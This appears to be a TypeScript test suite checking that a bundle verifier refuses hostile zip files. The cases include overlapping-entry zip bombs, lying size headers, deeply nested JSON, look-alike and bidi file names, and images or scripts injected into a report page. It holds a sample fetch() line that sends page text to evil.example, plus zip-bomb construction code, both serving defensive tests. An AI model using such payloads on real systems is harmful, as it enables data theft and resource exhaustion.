/**
 * verifyBundle against hostile zips built byte by byte (yazl for well-formed ones, hand-written central
 * directories for overlapping ones), read by the real verifier and the built CLI: bounded work, whatever the zip.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildBundle } from '../../src/bundle/build.js';
import { VERIFY_DEFAULTS, verifyBundle } from '../../src/bundle/verify.js';
import {
  centralDirectoryRecord,
  endOfCentralDirectory,
  localFileHeader,
  type RawEntry,
  rawZip,
  readZip,
  sha256,
  tempDir,
  type ZipHeaderFields,
} from '../bundle/helpers.js';
import { calls, FixtureSession } from '../support/fixture-session.js';
import { reportFigure } from './helpers.js';

const MiB = 1024 * 1024;
const BUNDLE_CLI = path.join(import.meta.dirname, '..', '..', 'dist', 'cli', 'mcec-bundle.js');

/** A zip written by yazl, every entry deflated at level 9 (how a bomb is packed small). */
async function yazlZip(file: string, list: RawEntry[]): Promise<string> {
  const { ZipFile } = await import('yazl');
  const zip = new ZipFile();
  for (const e of list) zip.addBuffer(e.data, String(e.name), { compressionLevel: 9 });
  zip.end();
  await new Promise<void>((resolve, reject) => {
    zip.outputStream.pipe(fs.createWriteStream(file)).on('close', resolve).on('error', reject);
  });
  return file;
}

/** `count` central-directory records, each naming its own file, all pointing at the one local entry at offset 0. */
function overlappingZip(names: string[], deflated: Buffer, size: number, crc: number): Buffer {
  const fields = (name: string): ZipHeaderFields => ({
    name: Buffer.from(name, 'utf8'),
    method: 8,
    crc,
    compressedSize: deflated.length,
    size,
  });
  const first = fields(names[0]!);
  // every record: the same local header
  const cd = Buffer.concat(names.flatMap((n) => [centralDirectoryRecord(fields(n), 0), fields(n).name]));
  const dataEnd = 30 + first.name.length + deflated.length;
  return Buffer.concat([
    localFileHeader(first),
    first.name,
    deflated,
    cd,
    endOfCentralDirectory(names.length, cd.length, dataEnd),
  ]);
}

/** A raw deflate stream of `chunks` x 16 MiB of zeros (~16 KB each), made without deflating a GiB. */
function zerosDeflated(chunks: number): { data: Buffer; size: number; crc: number } {
  const chunk = Buffer.alloc(16 * MiB);
  const part = zlib.deflateRawSync(chunk, { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
  const parts = Array.from({ length: chunks }, () => part);
  let crc = 0;
  for (let i = 0; i < chunks; i++) crc = zlib.crc32(chunk, crc);
  return {
    data: Buffer.concat([...parts, zlib.deflateRawSync(Buffer.alloc(0))]),
    size: chunks * 16 * MiB,
    crc,
  };
}

describe('verifyBundle is bounded whatever the zip', () => {
  let root: string;
  let good: string;
  let top: string;
  let entries: RawEntry[];
  let pngBase64: string;
  let png: Buffer;

  beforeAll(async () => {
    root = tempDir();
    const s = FixtureSession.create(root, { scenario: 'verify bounds' });
    s.call(calls.displays());
    await s.capture();
    s.call(calls.findSave());
    s.end();
    s.close();
    top = s.dirName;
    good = (await buildBundle(s.dir)).bundle;
    entries = (await readZip(good)).map((e) => ({ name: e.name, data: e.data }));
    png = entries.find((e) => String(e.name).endsWith('.png'))!.data;
    pngBase64 = png.toString('base64');
  });
  afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

  /** The good bundle's entries with `file` replaced (or added), the manifest rewritten to match. */
  function withFile(file: string, data: Buffer, list = entries): RawEntry[] {
    const full = `${top}/${file}`;
    const mName = `${top}/manifest.json`;
    let out = list.some((e) => e.name === full)
      ? list.map((e) => (e.name === full ? { ...e, data } : e))
      : [...list.filter((e) => e.name !== mName), { name: full, data }, list.find((e) => e.name === mName)!];
    const m = JSON.parse(out.find((e) => e.name === mName)!.data.toString('utf8'));
    m.files = out
      .filter((e) => e.name !== mName)
      .map((e) => ({
        path: String(e.name).slice(top.length + 1),
        bytes: e.data.length,
        sha256: sha256(e.data),
      }));
    out = out.map((e) => (e.name === mName ? { ...e, data: Buffer.from(JSON.stringify(m)) } : e));
    return out;
  }

  const html = () => entries.find((e) => e.name === `${top}/report.html`)!.data.toString('utf8');
  const write = (name: string, data: Buffer) => {
    const file = path.join(root, name);
    fs.writeFileSync(file, data);
    return file;
  };

  it('refuses 1,000 central-directory records pointing at one 1 GiB entry, before inflating anything', async () => {
    const bomb = zerosDeflated(64); // 1 GiB of zeros in ~1 MB
    const names = Array.from({ length: 1000 }, (_, i) => `${top}/artifacts/capture-${i}.png`);
    const file = write('overlap.zip', overlappingZip(names, bomb.data, bomb.size, bomb.crc));
    expect(fs.statSync(file).size).toBeLessThan(2 * MiB);
    const t0 = performance.now();
    const res = await verifyBundle(file);
    reportFigure('verify-overlap', {
      zipBytes: fs.statSync(file).size,
      ms: Math.round(performance.now() - t0),
    });
    expect(res.ok).toBe(false);
    expect(res.entries).toBe(1000);
    expect(res.problems.slice(0, 5)).toEqual(
      names
        .slice(1, 6)
        .map(
          (n) =>
            `entries "${names[0]}" and "${n}" overlap in the zip (the same bytes read as two files); refused`,
        ),
    );
    expect(res.problems.slice(5)).toEqual([
      '... 994 more overlapping entries',
      `${1000 * 1024 * MiB} bytes once inflated, over the cap of ${2048 * MiB} for the whole zip (--max-total-bytes); refused`,
    ]);
    // Nothing was read: no entry shows up as a file (no CRC, size or manifest findings).
    expect(res.problems.join('\n')).not.toMatch(/CRC|manifest|image bytes/);
  }, 60_000);

  it('refuses an entry that appears twice, or two names that are one file on Windows, before reading either', async () => {
    const md = Buffer.from(`![x](data:image/png;base64,${pngBase64})\n`);
    const twice = await verifyBundle(
      write('twice.zip', rawZip([...entries, { name: `${top}/bug-report.md`, data: md }])),
    );
    expect(twice.problems).toContain(`entry "${top}/bug-report.md": appears more than once; refused`);
    expect(twice.problems.join('\n')).not.toMatch(/image bytes/);
    const cased = await verifyBundle(
      write('cased.zip', rawZip([...entries, { name: `${top}/Bug-Report.md`, data: md }])),
    );
    expect(cased.problems).toContain(
      `entry "${top}/Bug-Report.md": same file as "${top}/bug-report.md" on Windows and macOS (the names differ only in letter case or Unicode normalization); refused`,
    );
    expect(cased.problems.join('\n')).not.toMatch(/image bytes/);
    // é composed and decomposed (one file on macOS), and a dotless ı beside I (its upper case).
    for (const [a, b] of [
      ['\u00e9.md', 'e\u0301.md'],
      ['I.md', '\u0131.md'],
    ]) {
      const res = await verifyBundle(
        write(
          'twins.zip',
          rawZip([...entries, { name: `${top}/${a}`, data: md }, { name: `${top}/${b}`, data: md }]),
        ),
      );
      expect(res.problems).toContain(
        `entry "${top}/${b}": same file as "${top}/${a}" on Windows and macOS (the names differ only in letter case or Unicode normalization); refused`,
      );
    }
  });

  it('caps the inflated bytes of one entry and of the whole zip, naming the option', async () => {
    // A deflated entry whose header claims 3 GiB: refused from the central directory alone.
    const lie = fs.readFileSync(await yazlZip(path.join(root, 'lie-src.zip'), entries));
    const at = lie.lastIndexOf(Buffer.from(`${top}/tool-calls.jsonl`));
    // Central record of tool-calls.jsonl: uncompressed size at offset 24 of the record (name at 46).
    lie.writeUInt32LE(3 * 1024 * MiB, at - 46 + 24);
    const huge = await verifyBundle(write('huge.zip', lie));
    expect(huge.problems).toContain(
      `entry "${top}/tool-calls.jsonl": ${3 * 1024 * MiB} bytes once inflated, over the cap of ${1024 * MiB} per entry (--max-entry-bytes); refused`,
    );
    const perEntry = await verifyBundle(good, { maxEntryBytes: 1000 });
    expect(perEntry.ok).toBe(false);
    expect(perEntry.problems.join('\n')).toMatch(
      /over the cap of 1000 per entry \(--max-entry-bytes\); refused/,
    );
    const total = await verifyBundle(good, { maxTotalBytes: 10_000 });
    expect(total.problems).toEqual([
      expect.stringMatching(
        /^\d+ bytes once inflated, over the cap of 10000 for the whole zip \(--max-total-bytes\); refused$/,
      ),
    ]);
    // The CLI takes the same caps.
    const cli = spawnSync(process.execPath, [BUNDLE_CLI, 'verify', good, '--max-total-bytes', '10KB'], {
      encoding: 'utf8',
    });
    expect(cli.status).toBe(1);
    expect(cli.stderr).toMatch(/over the cap of 10240 for the whole zip/);
  });

  it('refuses more entries than a bundle can have, before reading any', async () => {
    const many: RawEntry[] = Array.from({ length: 1001 }, (_, i) => ({
      name: `${top}/artifacts/f${i}.txt`,
      data: Buffer.from(`![x](data:image/png;base64,${pngBase64})`),
    }));
    const res = await verifyBundle(write('many.zip', rawZip(many)), { maxEntries: 1000 });
    expect(res.problems).toEqual([
      'more than 1000 entries (a bundle has one per file; maxEntries raises the cap); refused',
    ]);
    expect(VERIFY_DEFAULTS.maxEntries).toBe(100_000);
  });

  it('does not parse 64 MiB of nested JSON from a 66 KB zip (the CLI stays within a 256 MB heap)', async () => {
    const n = 32 * MiB;
    const nested = Buffer.alloc(2 * n, '[');
    nested.fill(']', n);
    const file = await yazlZip(path.join(root, 'nested.zip'), withFile('session.json', nested));
    expect(fs.statSync(file).size).toBeLessThan(100 * 1024);
    const res = await verifyBundle(file);
    expect(res.problems).toEqual([
      `${top}/session.json: too large to check for image bytes (${2 * n} bytes, over the cap of ${16 * MiB}: maxJsonBytes)`,
    ]);
    // Peak RSS from /usr/bin/time when the machine has it (a figure, not an assertion).
    const timed = fs.existsSync('/usr/bin/time');
    const cli = spawnSync(
      timed ? '/usr/bin/time' : process.execPath,
      [
        ...(timed ? ['-f', 'peak-rss-kb %M', process.execPath] : []),
        '--max-old-space-size=256',
        BUNDLE_CLI,
        'verify',
        file,
      ],
      { encoding: 'utf8' },
    );
    const rss = /peak-rss-kb (\d+)/.exec(cli.stderr);
    reportFigure('verify-nested-json', {
      zipBytes: fs.statSync(file).size,
      cliPeakRssKb: rss ? Number(rss[1]) : null,
    });
    expect(cli.status).toBe(1);
    expect(cli.stderr).toContain('session.json: too large to check for image bytes');
  }, 120_000);

  it('does not parse JSON nested or packed past its caps, in files, in lines and inside strings', async () => {
    const deep = 4 * MiB;
    const nested = Buffer.concat([Buffer.alloc(deep, '['), Buffer.alloc(deep, ']')]);
    const wide = Buffer.from(`[${'[],'.repeat(600_000)}[]]`);
    const stringDepth = 20_000;
    const inString = Buffer.from(
      `{"ts":"x","payload":"${'['.repeat(stringDepth)}1${']'.repeat(stringDepth)}"}\n`,
    );
    const jsonl = entries.find((e) => e.name === `${top}/tool-calls.jsonl`)!.data;
    let list = withFile('session.json', nested);
    list = withFile('environment.json', wide, list);
    list = withFile('tool-calls.jsonl', Buffer.concat([jsonl, inString, nested, Buffer.from('\n')]), list);
    const res = await verifyBundle(await yazlZip(path.join(root, 'packed.zip'), list));
    const lines = jsonl.toString('utf8').trim().split('\n').length;
    expect(res.problems).toEqual([
      `${top}/environment.json: holds 600002 objects and arrays, over the cap of 500000; not parsed`,
      `${top}/session.json: nested ${deep} levels deep, over the cap of 10000; not parsed`,
      `${top}/tool-calls.jsonl: line ${lines + 1} is nested ${stringDepth} levels deep (inside a string), over the cap of 10000; not parsed`,
      `${top}/tool-calls.jsonl: line ${lines + 2} is nested ${deep} levels deep, over the cap of 10000; not parsed`,
    ]);
  }, 60_000);

  describe('report.html', () => {
    const page = (name: string, text: string | Buffer) =>
      verifyBundle(write(name, rawZip(withFile('report.html', Buffer.from(text)))));
    const only = async (name: string, text: string | Buffer) => (await page(name, text)).problems;

    it('holds no PNG, JPEG, GIF or BMP bytes, however they are written', async () => {
      const body = html();
      const [head, tail] = body.split('</body>');
      const raw = Buffer.concat([Buffer.from(`${head}<!--`), png, Buffer.from(`-->\n</body>${tail}`)]);
      expect(await only('raw.zip', raw)).toEqual([
        `${top}/report.html: is not valid UTF-8`,
        `${top}/report.html: holds raw image bytes (a PNG, GIF or JPEG signature)`,
      ]);
      const asUri = body.replace('</main>', `<img src="data:image/png;base64,${pngBase64}"></main>`);
      expect(await only('uri.zip', asUri)).toEqual([
        `${top}/report.html: holds base64 image bytes (a run starting "iVBORw0KGgo")`,
        `${top}/report.html: holds a data:image/png URI (only WebP thumbnails belong in the page)`,
      ]);
      const hidden = body.replace(
        '</main>',
        `<img src="&#100;ata:image/png;base64,&#105;${pngBase64.slice(1)}"></main>`,
      );
      expect((await only('entities.zip', hidden)).join('\n')).toMatch(/data:image\/png URI/);
      const bmp = Buffer.concat([Buffer.from('BM'), Buffer.alloc(60, 1)]).toString('base64');
      expect(
        await only('bmp.zip', body.replace('</main>', `<a href="data:image/bmp;base64,${bmp}">x</a></main>`)),
      ).toEqual([`${top}/report.html: holds a data:image/bmp URI (only WebP thumbnails belong in the page)`]);
    });

    it('keeps thumbnails small: a full-size WebP is refused', async () => {
      const big = await sharp(png).resize({ width: 1000 }).webp().toBuffer();
      const uri = `data:image/webp;base64,${big.toString('base64')}`;
      const problems = await only('big-thumb.zip', html().replace('</main>', `<img src="${uri}"></main>`));
      expect(problems).toHaveLength(1);
      expect(problems[0]).toMatch(
        /report\.html: thumbnail \d+: 1000 x \d+ px, larger than a thumbnail \(320 px wide at most\)$/,
      );
    });

    it('runs only its own scripts: an added script, its hash added to the CSP, a loosened or missing CSP', async () => {
      const body = html();
      const evil = 'fetch("https://evil.example/?"+document.body.innerText)';
      const hash = `'sha256-${(await import('node:crypto')).createHash('sha256').update(evil).digest('base64')}'`;
      const added = body
        .replace('</body>', `<script>${evil}</script>\n</body>`)
        .replace("script-src 'sha256-", `script-src ${hash} 'sha256-`);
      expect(await only('script.zip', added)).toEqual([
        `${top}/report.html: its CSP allows a script that is not the page's own (script-src ${hash})`,
        `${top}/report.html: holds a script that is not the page's own (${hash})`,
      ]);
      const upper = body.replace('</body>', '<SCRIPT src="https://evil.example/x.js"></SCRIPT>\n</body>');
      expect(await only('upper.zip', upper)).toEqual([
        `${top}/report.html: holds a <script> with attributes (the page has only its own inline scripts)`,
      ]);
      const loose = body.replace("script-src 'sha256-", "script-src 'unsafe-inline' 'sha256-");
      expect(await only('loose.zip', loose)).toEqual([
        `${top}/report.html: its CSP allows 'unsafe-inline' in script-src`,
      ]);
      const commented = body
        .replace('<meta http-equiv', '<!-- <meta http-equiv')
        .replace('">\n<meta name="referrer"', '"> -->\n<meta name="referrer"');
      expect(await only('no-csp.zip', commented)).toEqual([
        `${top}/report.html: does not begin with its Content-Security-Policy (without one any script in the page would run)`,
      ]);
    });

    it("allows a custom template's own scripts when told which templates the bundle was built with", async () => {
      const templates = path.join(root, 'templates');
      fs.mkdirSync(templates, { recursive: true });
      const builtIn = fs.readFileSync(
        path.join(import.meta.dirname, '..', '..', 'templates', 'report.html.hbs'),
        'utf8',
      );
      fs.writeFileSync(
        path.join(templates, 'report.html.hbs'),
        builtIn.replace('</body>', '<script>document.title += " (custom)";</script>\n</body>'),
      );
      fs.mkdirSync(path.join(root, 'custom'));
      const s = FixtureSession.create(path.join(root, 'custom'), { scenario: 'custom page' });
      s.call(calls.displays());
      s.end();
      s.close();
      const zip = (await buildBundle(s.dir, { templatesDir: templates })).bundle;
      expect((await verifyBundle(zip)).problems).toEqual([
        expect.stringMatching(/report\.html: its CSP allows a script that is not the page's own/),
        expect.stringMatching(/report\.html: holds a script that is not the page's own/),
      ]);
      expect(await verifyBundle(zip, { templatesDir: templates })).toMatchObject({ ok: true, problems: [] });
    });
  });

  it('refuses an empty or cut-off PNG', async () => {
    const name = String(entries.find((e) => String(e.name).endsWith('.png'))!.name).slice(top.length + 1);
    const empty = await verifyBundle(write('empty-png.zip', rawZip(withFile(name, Buffer.alloc(0)))));
    expect(empty.problems).toEqual([`${top}/${name}: an empty PNG (0 bytes)`]);
    const cut = await verifyBundle(write('cut-png.zip', rawZip(withFile(name, png.subarray(0, 100)))));
    expect(cut.problems).toEqual([
      `${top}/${name}: not a whole PNG (100 bytes; no PNG signature or IEND end)`,
    ]);
  });

  it('prints hostile names with control and bidi characters escaped', async () => {
    const name = `${top}/notes\u202egnp.md\u009b31m`;
    const res = await verifyBundle(
      write('bidi.zip', rawZip([...entries, { name, data: Buffer.from('hi') }])),
    );
    expect(res.problems).toEqual(['notes\\u202egnp.md\\u009b31m is not in the manifest']);
    const cli = spawnSync(process.execPath, [BUNDLE_CLI, 'verify', path.join(root, 'bidi.zip')], {
      encoding: 'utf8',
    });
    expect(cli.status).toBe(1);
    expect(cli.stderr).toContain('notes\\u202egnp.md\\u009b31m is not in the manifest');
    expect(cli.stderr).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
  });
});
